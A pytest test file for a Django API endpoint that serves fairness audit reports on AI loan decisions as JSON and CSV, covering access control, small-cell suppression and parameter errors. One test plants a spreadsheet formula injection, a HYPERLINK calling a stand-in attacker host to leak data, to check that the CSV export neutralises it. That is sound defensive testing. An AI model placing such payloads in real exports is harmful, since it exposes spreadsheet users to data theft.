"""GET /api/v1/bias/report: JSON and CSV, who may read it, and errors naming the parameter."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from rest_framework.test import APIClient

from audit.services.systems import api_key_create
from tests.audit.conftest import AISystemFactory
from tests.bias.test_report import put, version

pytestmark = pytest.mark.django_db

URL = "/api/v1/bias/report"


@pytest.fixture
def loans(ai_system):
    model_version = version(ai_system)
    put(ai_system, model_version, {"sex": "male", "race": "white"}, "approve", count=30)
    put(ai_system, model_version, {"sex": "male", "race": "white"}, "deny", count=10)
    put(ai_system, model_version, {"sex": "female", "race": "white"}, "approve", count=12)
    put(ai_system, model_version, {"sex": "female", "race": "white"}, "deny", count=18)
    put(ai_system, model_version, {"sex": "female", "race": "asian"}, "approve", count=3)
    return ai_system


@pytest.fixture
def staff_client(django_user_model) -> APIClient:
    user = django_user_model.objects.create_user("auditor", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="view_outcomecount"))
    client = APIClient()
    client.force_login(user)
    return client


def test_a_public_systems_report_is_readable_anonymously_without_small_cells(loans):
    loans.is_public = True
    loans.save()
    answer = APIClient().get(URL, {"system": loans.slug, "attributes": "sex,race"})
    assert answer.status_code == 200
    report = answer.json()
    groups = {group["key"]: group for group in report["groups"]}
    assert report["public"] is True
    assert "female|asian" not in groups and report["total"] == 70
    assert groups["male|white"]["count"] == 40
    assert report["summary"]["demographic_parity_difference"] == pytest.approx(0.75 - 0.4)


def test_a_private_systems_report_is_hidden_from_anonymous_readers_and_plain_staff(
    loans, django_user_model
):
    answer = APIClient().get(URL, {"system": loans.slug, "attributes": "sex"})
    assert answer.status_code == 404
    assert "system" in answer.json()["error"]["fields"]
    plain = APIClient()
    plain.force_login(django_user_model.objects.create_user("plain", is_staff=True))
    assert plain.get(URL, {"system": loans.slug, "attributes": "sex"}).status_code == 404


def test_permitted_staff_and_the_systems_own_key_see_everything(loans, staff_client, api_client):
    for client in (staff_client, api_client):
        answer = client.get(URL, {"system": loans.slug, "attributes": "sex,race"})
        assert answer.status_code == 200
        groups = {group["key"]: group for group in answer.json()["groups"]}
        assert groups["female|asian"]["count"] == 3
    forced = staff_client.get(URL, {"system": loans.slug, "attributes": "sex,race", "public": 1})
    assert forced.json()["public"] is True


def test_another_systems_key_cannot_read_a_private_report(loans):
    other = AISystemFactory()
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Api-Key {api_key_create(system=other, name='x')}")
    assert client.get(URL, {"system": loans.slug, "attributes": "sex"}).status_code == 404


def test_csv_has_a_line_per_group_and_marginal(loans, staff_client):
    answer = staff_client.get(
        URL, {"system": loans.slug, "attributes": "sex,race", "format": "csv"}
    )
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(answer.content.decode())))
    levels = [(line["level"], line["group"]) for line in lines]
    assert ("intersection", "female|white") in levels
    assert ("marginal:sex", "female") in levels
    women = next(line for line in lines if line["group"] == "female")
    assert women["count"] == "33" and float(women["selection_rate"]) == pytest.approx(15 / 33)
    assert float(women["impact_ratio"]) == pytest.approx((15 / 33) / 0.75)


def test_csv_quotes_attribute_names_that_a_spreadsheet_would_run(ai_system, staff_client):
    """An AI system chooses its attribute names: `=HYPERLINK(...)` must reach the auditor's
    spreadsheet as text, in the header as in the values."""
    formula = '=HYPERLINK("https://evil.example/?leak")'
    put(ai_system, version(ai_system), {formula: "@SUM(1)", "sex": "female"}, "approve")
    answer = staff_client.get(
        URL, {"system": ai_system.slug, "attributes": f"sex,{formula}", "format": "csv"}
    )
    assert answer.status_code == 200
    header, *lines = list(csv.reader(io.StringIO(answer.content.decode())))
    assert header[2:4] == ["sex", "'" + formula]
    assert lines[0][:4] == ["intersection", "female|@SUM(1)", "female", "'@SUM(1)"]
    assert not any(cell[:1] in ("=", "+", "-", "@") for line in (header, *lines) for cell in line)


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"attributes": "sex"}, "system"),
        ({"system": "{slug}"}, "attributes"),
        ({"system": "{slug}", "attributes": "religion"}, "attributes"),
        ({"system": "{slug}", "attributes": "sex", "from": "yesterday"}, "from"),
        ({"system": "{slug}", "attributes": "sex", "to": "2026-13-01"}, "to"),
        ({"system": "{slug}", "attributes": "sex", "reference": "martian"}, "reference"),
        ({"system": "{slug}", "attributes": "sex", "model_version": "9.9"}, "model_version"),
        ({"system": "{slug}", "attributes": "sex", "outcome": "human"}, "outcome"),
        (
            {"system": "{slug}", "attributes": "sex", "from": "2026-05-01", "to": "2026-01-01"},
            "from",
        ),
    ],
)
def test_bad_parameters_get_a_400_naming_them(loans, staff_client, query, field):
    query = {name: value.format(slug=loans.slug) for name, value in query.items()}
    answer = staff_client.get(URL, query)
    assert answer.status_code == 400, answer.content
    assert field in answer.json()["error"]["fields"]


def test_model_version_and_dates_filter_the_report(loans, staff_client):
    answer = staff_client.get(
        URL,
        {
            "system": loans.slug,
            "attributes": "sex",
            "model_version": "scorer:1.0",
            "from": "2026-03-01",
            "to": "2026-03-02",
        },
    )
    assert answer.status_code == 200
    assert answer.json()["total"] == 73
    empty = staff_client.get(URL, {"system": loans.slug, "attributes": "sex", "from": "2027-01-01"})
    assert empty.json()["total"] == 0 and empty.json()["groups"] == []


def test_the_report_is_in_the_openapi_schema(client):
    schema = client.get("/api/schema/", HTTP_ACCEPT="application/json").json()
    operation = schema["paths"][URL]["get"]
    names = {parameter["name"] for parameter in operation["parameters"]}
    assert {"system", "attributes", "reference", "model_version", "from", "to"} <= names
    assert {"200", "400", "404"} <= set(operation["responses"])
